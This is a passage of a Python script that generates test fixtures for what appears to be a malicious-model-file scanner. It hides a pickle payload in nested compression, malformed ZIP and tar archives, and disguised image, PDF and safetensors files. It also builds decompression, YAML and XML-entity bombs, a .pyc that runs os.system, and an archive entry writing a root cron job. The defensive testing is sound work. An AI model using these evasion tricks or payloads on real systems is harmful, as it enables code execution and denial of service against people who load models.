    out.evil(group, "two-frames.lz4", lz4(HARMLESS) + lz4(small))
    out.evil(group, "stored.pkl.zst", zstd(small))
    out.evil(group, "skippable.pkl.zst", skip + zstd(small))
    out.evil(group, "two-frames.pkl.zst", zstd(HARMLESS) + zstd(small))
    out.evil(group, "lz4-legacy.lz4", b"\x02\x21\x4c\x18" + struct.pack("<I", len(small) + 3) + b"\xf0" + bytes([len(small) - 15]) + small)
    gz = lambda flags, extra, data: b"\x1f\x8b\x08" + bytes([flags]) + b"\0" * 6 + extra + gzip.compress(data)[10:]
    out.evil(group, "gzip-extra.pkl.gz", gz(4, b"\x05\0hello", EVIL))
    out.evil(group, "gzip-name.pkl.gz", gz(8, b"README.md\0", EVIL))
    out.evil(group, "gzip-comment.pkl.gz", gz(16, b"note\0", EVIL))
    out.evil(group, "gzip-padded.pkl.gz", gzip.compress(HARMLESS) + b"\0" * 512 + gzip.compress(EVIL))
    out.evil(group, "gzip-trailing-pickle.pkl.gz", gzip.compress(HARMLESS) + EVIL)
    out.evil(group, "xz-padded.pkl.xz", lzma.compress(HARMLESS) + b"\0" * 8 + lzma.compress(EVIL))
    out.evil(group, "bz2-second.pkl.bz2", bz2.compress(HARMLESS) + bz2.compress(EVIL))
    out.evil(group, "zlib-trailing.joblib", zlib.compress(HARMLESS) + EVIL)
    deep = EVIL
    for i in range(6):
        deep = (gzip.compress, bz2.compress, lambda d: zipped([("x", d)]), lambda d: tarred([("x", d, tarfile.REGTYPE, "")]), zlib.compress, lzma.compress)[i](deep)
    out.evil(group, "six-layers.bin", deep)
    deeper = EVIL
    for i in range(40):
        deeper = gzip.compress(deeper)
    out.evil(group, "forty-layers.pkl.gz", deeper)
    deeper = EVIL
    for i in range(40):
        deeper = zipped([("x.zip", deeper)])
    out.evil(group, "forty-zips.zip", deeper)
    bomb = b"\0" * (1 << 24)
    out.evil(group, "bomb-xz.pkl.xz", lzma.compress(bomb * 8, preset=0))
    out.evil(group, "bomb-bz2-twice.pkl.bz2", bz2.compress(bz2.compress(bomb * 40)))
    out.evil(group, "quine-like.zip", zipped([(f"{i}.zip", zipped([(f"{j}.npy", bomb) for j in range(4)], zipfile.ZIP_DEFLATED)) for i in range(4)], zipfile.ZIP_DEFLATED))
    out.evil(group, "raw-deflate.pkl", zlib.compress(EVIL)[2:-4])
    out.evil(group, "base64.pkl", base64.b64encode(EVIL))
    out.evil(group, "utf16.pkl", call(proto=0)[:0] + b"\xff\xfe" + call(proto=0)[:12].decode("latin1").encode("utf-16-le"))
    out.evil(group, "marshal.pyc", b"\xa7\r\r\n" + b"\0" * 12 + marshal.dumps(compile("import os\nos.system('id')", "x", "exec")))
    out.evil(group, "native.so", b"\x7fELF\x02\x01\x01" + b"\0" * 200)
    out.evil(group, "windows.pt", b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 100)
    out.evil(group, "script.bin", b"#!/bin/sh\nid\n")


def archives(out):
    group = "wild-archives"
    good = torch_zip(EVIL)
    name = b"archive/data.pkl"
    local, central = headers(good, name)
    harmless = torch_zip(HARMLESS)
    gap = zipped([("archive/data.pkl", HARMLESS), ("archive/version", b"3\n")])
    end = gap.rindex(b"PK\x05\x06")
    directory = struct.unpack("<I", gap[end + 16:end + 20])[0]
    hidden = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(EVIL), len(EVIL), len(EVIL), 10, 0) + b"hidden.pkl" + EVIL
    moved = gap[:directory] + hidden + gap[directory:end] + patched(gap[end:], 16, struct.pack("<I", directory + len(hidden)))
    out.evil(group, "unlisted-entry.pt", moved)
    out.evil(group, "raw-gap.pt", gap[:directory] + EVIL + gap[directory:end] + patched(gap[end:], 16, struct.pack("<I", directory + len(EVIL))))
    out.evil(group, "behind-end.pt", harmless + EVIL)
    out.evil(group, "zip-behind-end.pt", harmless + b"\0" * 100 + good)
    out.evil(group, "pickle-prefix.pt", EVIL + harmless)
    out.evil(group, "pickle-prefix-unshifted.pkl", EVIL + zipped([("a.txt", b"x")]))
    out.evil(group, "harmless-prefix.pkl", HARMLESS + good)
    out.evil(group, "spanned-marker.zip", b"PK00" + good)
    out.evil(group, "empty-first.zip", b"PK\x05\x06" + b"\0" * 18 + good)
    unicode_path = struct.pack("<HHBI", 0x7075, 5 + 16, 1, zlib.crc32(b"archive/data.txt")) + b"archive/data.pkl"
    extra = zipfile.ZipInfo("archive/data.txt")
    extra.extra = unicode_path
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(extra, EVIL)
        archive.writestr("archive/version", b"3\n")
    out.evil(group, "unicode-path.pt", buffer.getvalue())
    out.evil(group, "nul-name.pt", patched(zipped([("archive/data.pklXtxt", EVIL), ("archive/version", b"3\n")]), 30 + 16, b"\0"))
    out.evil(group, "backslash.pt", zipped([("archive\\data.pkl", EVIL), ("archive\\version", b"3\n")]))
    out.evil(group, "directory-with-body.zip", zipped([("model.pkl/", EVIL)]))
    out.evil(group, "no-name.zip", zipped([("", EVIL)]))
    out.evil(group, "absolute.zip", zipped([("/etc/cron.d/x", b"* * * * * root id\n"), ("m.pkl", EVIL)]))
    out.evil(group, "local-method-differs.pt", patched(good, local + 8, b"\x08\0"))
    out.evil(group, "central-method-differs.pt", patched(good, central + 10, b"\x08\0"))
    out.evil(group, "local-size-differs.pt", patched(good, local + 18, struct.pack("<II", 3, 3)))
    out.evil(group, "central-size-differs.pt", patched(good, central + 20, struct.pack("<II", 3, 3)))
    out.evil(group, "both-encrypted.pt", patched(patched(good, local + 6, b"\1\0"), central + 8, b"\1\0"))
    out.evil(group, "aes.zip", patched(patched(good, local + 8, b"\x63\0"), central + 10, b"\x63\0"))
    for method in (1, 6, 9, 19, 93, 95, 98, 255):
        out.evil(group, f"method-{method}.pt", patched(patched(good, local + 8, struct.pack("<H", method)), central + 10, struct.pack("<H", method)))
    out.evil(group, "comment-pickle.pt", torch_zip(HARMLESS, comment=EVIL))
    entry = zipfile.ZipInfo("archive/data.pkl")
    entry.comment = EVIL
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(entry, HARMLESS)
        archive.writestr("archive/version", b"3\n")
    out.evil(group, "entry-comment.pt", buffer.getvalue())
    pad = zipfile.ZipInfo("archive/data.pkl")
    pad.extra = b"FB" + struct.pack("<H", len(EVIL)) + EVIL
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(pad, HARMLESS)
        archive.writestr("archive/version", b"3\n")
    out.evil(group, "extra-field.pt", buffer.getvalue())
    out.evil(group, "cut-directory.pt", good[:-30])
    out.evil(group, "cut-after-data.pt", good[:local + 30 + len(name) + len(EVIL) + 3])
    overlap = zipped([("a.npy", b"\0" * 100)] * 1)
    out.evil(group, "overlap.zip", overlapping(300))
    group = "wild-tar"
    evil = ("model.pkl", EVIL, tarfile.REGTYPE, "")
    out.evil(group, "long-name.tar", tarred([("a" * 300 + ".pkl", EVIL, tarfile.REGTYPE, "")]))
    out.evil(group, "two-archives.tar", tarred([("a.txt", b"x", tarfile.REGTYPE, "")]) + tarred([evil]))
    out.evil(group, "behind-end.tar", tarred([("a.txt", b"x", tarfile.REGTYPE, "")]) + EVIL)
    out.evil(group, "device.tar", tarred([("dev", b"", tarfile.CHRTYPE, ""), evil]))
    out.evil(group, "fifo.tar", tarred([("fifo", b"", tarfile.FIFOTYPE, ""), evil]))
    out.evil(group, "directory-with-size.tar", tarred([("d", EVIL, tarfile.DIRTYPE, "")]))
    out.evil(group, "unknown-type.tar", tarred([("d", EVIL, b"Z", "")]))
    for member in ({"path": "model.pkl"}, {"size": str(len(EVIL))}):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
            info = tarfile.TarInfo("notes.txt")
            info.size = len(EVIL)
            info.pax_headers = member
            archive.addfile(info, io.BytesIO(EVIL))
        out.evil(group, f"pax-{next(iter(member))}.tar", buffer.getvalue())
    v7 = bytearray(tarred([evil]))
    v7[257:265] = b"\0" * 8
    v7[148:156] = b" " * 8
    v7[148:156] = b"%06o\0 " % sum(v7[:512])
    out.evil(group, "v7.tar", bytes(v7))
    sized = bytearray(tarred([("pad.txt", EVIL + b"\0" * (512 - len(EVIL) % 512), tarfile.REGTYPE, "")]))
    pax = tarfile.TarInfo("x").create_pax_header({"size": "0"} | tarfile.TarInfo("x").get_info(), "utf-8") if False else b""
    record = b"10 size=0\n"
    header = tarfile.TarInfo("pax")
    header.type, header.size = tarfile.XHDTYPE, len(record)
    out.evil(group, "pax-size-zero.tar", header.tobuf(tarfile.USTAR_FORMAT) + record.ljust(512, b"\0") + tarred([("a.txt", tarred([evil]), tarfile.REGTYPE, "")]))
    broken = bytearray(tarred([("a.txt", b"x", tarfile.REGTYPE, ""), evil]))
    broken[148:154] = b"000000"
    out.evil(group, "checksum.tar", bytes(broken))


def dtype(code, state):
    return glob("numpy", "dtype") + text(code) + b"\x89\x88\x87R" + state + b"b"


def dtype_state(flags, names=b"N", fields=b"N", size=b"J\xff\xff\xff\xff", alignment=b"J\xff\xff\xff\xff", subarray=b"N"):
    return b"(K\x03" + text("|") + subarray + names + fields + size + alignment + b"K" + bytes([flags]) + b"t"


def native(out):
    """Forged states that numpy copies unchecked: bytes of the file become addresses, or a field lies outside of its element."""
    group = "wild-native"
    array = lambda kind, shape: (P2 + glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + b"K\x00\x85U\x01b\x87R(K\x01" + shape + kind
                                 + b"\x89C\x08AAAAAAAAtb.")
    plain = lambda code: glob("numpy", "dtype") + text(code) + b"\x89\x88\x87R"
    field = lambda code, offset: b"}" + text("a") + plain(code) + offset + b"\x86s"
    structure = lambda fields: dtype("V8", dtype_state(0, text("a") + b"\x85", fields, b"K\x08", b"K\x01"))
    out.evil(group, "objects-deny.pkl", array(dtype("O8", dtype_state(0)), b"K\x01\x85"))
    out.evil(group, "objects-scalar.pkl", P2 + glob("numpy.core.multiarray", "scalar") + dtype("O8", dtype_state(0)) + b"C\x08AAAAAAAA\x86R.")
    out.evil(group, "object-field.pkl", array(structure(field("O8", b"K\x00")), b"K\x01\x85"))
    out.evil(group, "field-outside.pkl", array(structure(field("f8", b"J\0\0\0\x10")), b"K\x01\x85"))
    out.evil(group, "subarray-outside.pkl", array(dtype("V8", dtype_state(0, size=b"K\x08", alignment=b"K\x01", subarray=plain("f8") + b"J\0\0\0\x10\x85\x86")), b"K\x01\x85"))
    estimator = P2 + glob("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    plant = glob("collections", "OrderedDict") + b")R" + text("__setstate__") + glob("torch.storage", "_load_from_bytes") + b"sb"
    packed = torch_zip(EVIL, method=zipfile.ZIP_DEFLATED).decode("latin1")
    encoded = glob("_codecs", "encode") + text(packed) + text("latin1") + b"\x86R"
    out.evil(group, "planted-by-dict.pkl", estimator + plant + encoded + b"b.")
    out.evil(group, "state-of-call.pkl", estimator + encoded + b"b.")
    out.evil(group, "set-of-two-ended-range.pkl", P2 + glob("builtins", "set") + glob("builtins", "range") + b"K\x00\x8a\x06\0\0\0\0\0\x40\x86R\x85R.")
    out.evil(group, "fraction-exponent.pkl", P2 + glob("fractions", "Fraction") + text("1e999999999") + b"\x85R.")
    out.evil(group, "torchscript-class.pkl", P2 + glob("__torch__.m", "M") + b")R.")


def overlapping(count):
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(b"\0" * (1 << 22)) + body.flush()
    crc = zlib.crc32(b"\0" * (1 << 22))
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(data), 1 << 22, 1, 0) + b"a" + data
    central = b"".join(b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, crc, len(data), 1 << 22, 3, 0, 0, 0, 0, 0, 0) + b"%03d" % i for i in range(count))
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local), 0)


def disguises(out):
    group = "wild-disguise"
    licence = b"S'Apache License'\n0" + b"S'Version 2.0, January 2004'\n0"
    for name in ("README.md", "LICENSE", "vocab.txt", "config.json", "merges.txt", "data.csv", "notes.rst", "run.py", "index.html", "a.yaml", "model.onnx", "model.gguf",
                 "model.safetensors", "model.h5", "saved_model.pb", "x.tflite", "tokenizer.model", "preview.jpg", "paper.pdf", "notebook.ipynb", ".gitattributes", "a.log"):
        out.evil(group, name, licence + call(proto=0))
    out.evil(group, "text-first.md", b"V# Model card\n0V\n0" + call(proto=0))
    out.evil(group, "comment-int.txt", b"I1\n0" + call(proto=0))
    safetensors = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    whole = struct.pack("<Q", len(safetensors)) + safetensors + b"\0" * 4
    out.evil(group, "trailing-zip.safetensors", whole + torch_zip(EVIL))
    out.evil(group, "trailing-pickle.safetensors", whole + EVIL)
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0\0\0\1\0\0\0\1\x08\0\0\0\0" + struct.pack(">I", zlib.crc32(b"IHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0")) + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    out.evil(group, "trailing.png", png + torch_zip(EVIL))
    out.evil(group, "gif.gif", b"GIF89a" + b"\0" * 7 + torch_zip(EVIL))
    out.evil(group, "pdf.pdf", b"%PDF-1.4\n" + torch_zip(EVIL) + b"\n%%EOF\n")
    out.evil(group, "jpeg.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 9 + EVIL)
    out.evil(group, "two-arrays.npy", npy("'<i4'", b"\0" * 4) + npy("'|O'", EVIL))
    out.evil(group, "unicode-key.npy", npy("'|O'", EVIL, 3, "(1,)").replace(b"shape", b"shape"))
    out.evil(group, "descr-tuple.npy", npy("('O', (1,))", EVIL))
    out.evil(group, "descr-align.npy", npy("[('a', '<i4'), ('b', 'O', (2,))]", EVIL))
    out.evil(group, "descr-object-name.npy", npy("'object'", EVIL))
    out.evil(group, "descr-object0.npy", npy("'|O8'", EVIL))
    for depth, name in ((3, "lines"), (400, "many-lines")):
        out.evil(group, f"json-then-pickle-{name}.json", b"{}\n" * depth + EVIL)
    out.evil(group, "nested-in-state.pkl", pickle.dumps({"model": EVIL})[:-1] + b"0" + stack_global("pickle", "loads") + raw(EVIL) + b"\x85R.")
    out.evil(group, "npz-upper.NPZ", zipped([("A.NPY", npy("'|O'", EVIL))]))
    out.evil(group, "npz-pickle.npz", zipped([("a.npy", EVIL)]))
    out.evil(group, "keras-pickle.keras", zipped([("config.json", b"{}"), ("metadata.json", b"{}"), ("model.weights.h5", EVIL)]))
    out.evil(group, "skops-pickle.skops", zipped([("schema.json", json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "protocol": 4, "_skops_version": "0.16"}).encode()), ("x.npy", npy("'|O'", EVIL))]))


def growth(out):
    group = "wild-growth"
    out.evil(group, "dict-sharing.pkl", P2 + b"}q\x00" + b"".join(b"(" + b"".join(text(str(k)) + b"h" + bytes([i]) for k in range(8)) + b"dq" + bytes([i + 1]) for i in range(60)) + b".")
    out.evil(group, "tuple-sharing.pkl", P2 + b"N" + b"2\x86" * 2000 + b".")
    out.evil(group, "frozenset-sharing.pkl", P4 + b")" + b"".join(b"q" + bytes([i % 250]) + b"0(h" + bytes([i % 250]) + b"h" + bytes([i % 250]) + b"K\x01t\x85" for i in range(100)) + b"(" + b"K\x01" + b"\x91" + b".")
    out.evil(group, "codec-growth.pkl", P2 + b"".join([text("x")] + [b"2\x86" + b"0" + text("y") for _ in range(10)]) + glob("operator", "mul") + text("x" * 1000) + b"\x8a\x05\0\0\0\0\1\x86R.")
    out.broken(group, "marks.pkl", P2 + b"(" * 3_000_000)
    out.broken(group, "lists.pkl", P2 + b"](" * 1_000_000)
    out.broken(group, "long-line.pkl", P2 + b"L" + b"9" * 3_000_000 + b"L\n")
    out.broken(group, "global-line.pkl", P2 + b"c" + b"a" * 8_000_000)
    out.broken(group, "unicode-line.pkl", P2 + b"V" + b"\\u0041" * 1_000_000)
    out.broken(group, "string-line.pkl", P2 + b"S'" + b"\\x41" * 1_000_000)
    out.broken(group, "float-line.pkl", P2 + b"F" + b"1" * 3_000_000 + b"\n")
    out.broken(group, "memo-sparse.pkl", P2 + b"N" + b"".join(b"r" + struct.pack("<I", i * 65537 & 0x7fffffff) for i in range(300_000)))
    out.broken(group, "pops.pkl", P2 + b"N0" * 2_000_000 + b"0")
    out.broken(group, "empty-frames.pkl", P4 + frame(0) * 300_000)
    out.broken(group, "protos.pkl", P2 * 2_000_000)
    out.broken(group, "deep.json", b"[" * 2_000_000)
    out.broken(group, "number.json", b'{"hidden_size": 1e999999999, "x": ' + b"9" * 1_000_000 + b"}")
    out.broken(group, "deep.yaml", b"- " * 100_000)
    out.evil(group, "aliases.yaml", b"a0: &a0 [x,x]\n" + b"".join(b"a%d: &a%d [*a%d,*a%d,*a%d,*a%d,*a%d]\n" % (i, i, *[i - 1] * 5) for i in range(1, 60)))
    out.evil(group, "entities.pmml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "x">' + b"".join(b'<!ENTITY a%d "&a%d;&a%d;&a%d;&a%d;">' % (i, *[i - 1] * 4) for i in range(1, 60)) + b']><PMML version="4.4">&a59;</PMML>')
    out.broken(group, "int-long-text.pkl", P2 + b"I" + b"9" * 1_000_000 + b"\n.")
    out.broken(group, "header.npy", b"\x93NUMPY\x02\0" + struct.pack("<I", 3_000_000) + b"{" + b"(" * 2_999_998 + b"\n")
    out.broken(group, "header-digits.npy", npy("'<f8'", b"", 2, "(" + "9" * 500_000 + ",)"))


def malformed(out):
    group = "wild-malformed"
    import datetime
    ordinary = pickle.dumps({"a": [1.5, "x", datetime.datetime(2024, 1, 1)], "b": list(range(300))}, 4)
    for cut in (1, 2, 3, 5, 20, 50, len(ordinary) // 2, len(ordinary) - 9, len(ordinary) - 1):
        out.broken(group, f"cut-{cut:03d}.pkl", ordinary[:cut])
    out.broken(group, "zeros.pkl", b"\0" * 4096)
    out.broken(group, "zeros.pt", b"\0" * 4096)
    out.broken(group, "text.pt", b"This is not a model.\n")
    out.broken(group, "page.bin", b"<!DOCTYPE html><html><body>404: Not Found</body></html>")
    out.broken(group, "page.safetensors", b"<!DOCTYPE html><html><body>404: Not Found</body></html>")
    out.broken(group, "json.pt", b'{"error": "not found"}')
    for name in ("pt", "npy", "npz", "joblib", "safetensors", "gguf", "onnx", "h5", "keras", "pb", "bin", "tflite", "7z", "tar", "zip"):
        out.broken(group, "empty." + name, b"")
    storage = lambda count: P2 + glob("torch._utils", "_rebuild_tensor_v2") + b"((" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + count + b"tQK\x00" + count + b"\x85K\x01\x85\x89" + glob("collections", "OrderedDict") + b")RtR."
    one = b"K\x04"
    out.broken(group, "storage-missing.pt", zipped([("m/data.pkl", storage(one)), ("m/version", b"3\n")]))
    out.broken(group, "storage-short.pt", zipped([("m/data.pkl", storage(one)), ("m/version", b"3\n"), ("m/data/0", b"\0" * 4)]))
    out.broken(group, "storage-overflow.pt", zipped([("m/data.pkl", storage(b"\x8a\x08" + b"\xff" * 7 + b"\x7f")), ("m/version", b"3\n"), ("m/data/0", b"\0" * 16)]))
    out.broken(group, "storage-negative.pt", zipped([("m/data.pkl", storage(b"J\xff\xff\xff\xff")), ("m/version", b"3\n"), ("m/data/0", b"\0" * 16)]))
    view = P2 + glob("torch._utils", "_rebuild_tensor_v2") + b"((" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQK\x00M\xe8\x03\x85K\x01\x85\x89" + glob("collections", "OrderedDict") + b")RtR."
    out.broken(group, "view-beyond.pt", zipped([("m/data.pkl", view), ("m/version", b"3\n"), ("m/data/0", b"\0" * 16)]))
    good = zipped([("m/data.pkl", storage(one)), ("m/version", b"3\n"), ("m/data/0", b"\0" * 16)])
    out.broken(group, "zip-crc-data.pt", good.replace(b"\0" * 16, b"\0" * 15 + b"\1", 1))
    for cut in (10, 40, 100, len(good) - 60, len(good) - 1):
        out.broken(group, f"cut-{cut}.pt", good[:cut])
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    out.broken(group, "legacy-only-magic.pt", magic)
    out.broken(group, "legacy-storage-cut.pt", magic + b"\x80\x02M\xe9\x03.\x80\x02}." + storage(one).replace(b"tQ", b"NtQ") + b"\x80\x02]" + text("0") + b"a." + struct.pack("<q", 4) + b"\0" * 7)
    out.broken(group, "legacy-storage-count.pt", magic + b"\x80\x02M\xe9\x03.\x80\x02}." + storage(one).replace(b"tQ", b"NtQ") + b"\x80\x02]" + text("0") + b"a." + struct.pack("<q", 1 << 61) + b"\0" * 16)
    for name, data in (("cut.xz", lzma.compress(ordinary)[:-20]), ("check.xz", patched(lzma.compress(ordinary), len(lzma.compress(ordinary)) - 20, b"\1\2\3\4")), ("bz2-crc.bz2", patched(bz2.compress(ordinary), 12, b"\xff\xff")),
                       ("size.gz", gzip.compress(ordinary)[:-4] + b"\1\0\0\0"), ("zlib-adler.joblib", zlib.compress(ordinary)[:-1] + b"\0"), ("garbage.gz", b"\x1f\x8b\x08\0" + b"\x07" * 60),
                       ("short.7z", b"7z\xbc\xaf\x27\x1c"), ("frame.lz4", b"\x04\x22\x4d\x18\x60"), ("frame.zst", b"\x28\xb5\x2f\xfd"), ("gzip-junk-after.pkl.gz", gzip.compress(ordinary) + b"junk")):
        out.broken(group, "wrapped-" + name, data)
    out.broken(group, "extra-bytes.npy", npy("'<i4'", b"\0" * 9))
    out.broken(group, "version-9.npy", npy("'<i4'", b"\0" * 4, 9))
    out.broken(group, "keys.npy", npy("'<i4', 'x': 1", b"\0" * 4))
    out.broken(group, "unknown-descr.npy", npy("'<q77'", b"\0" * 4))
    out.broken(group, "negative.npy", npy("'<i4'", b"\0" * 4, 1, "(-1,)"))
    out.broken(group, "cut-object.npy", npy("'|O'", HARMLESS[:-2]))
    out.broken(group, "member-cut.npz", zipped([("a.npy", npy("'<f8'", b"\0" * 4))]))
    out.broken(group, "not-an-array.npz", zipped([("a.npy", b"hello")]))
    out.broken(group, "tar-cut.tar", tarred([("a.npy", npy("'<i4'", b"\0" * 4), tarfile.REGTYPE, "")])[:600])
    out.broken(group, "random.bin", bytes((i * i * 31 + 7 * i) % 251 for i in range(5000)))
    out.broken(group, "config.json", b'{"hidden_size": 4')
    out.broken(group, "trailing-junk.pkl", ordinary + b"\xfe\xfd\xfc")


def write(out):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for family in (spelled, dotted, composed, native, loaders, archives, disguises, growth, malformed):
            family(out)


if __name__ == "__main__":
    made = Out(sys.argv[1])
    write(made)
    print(f"{made.written} files")
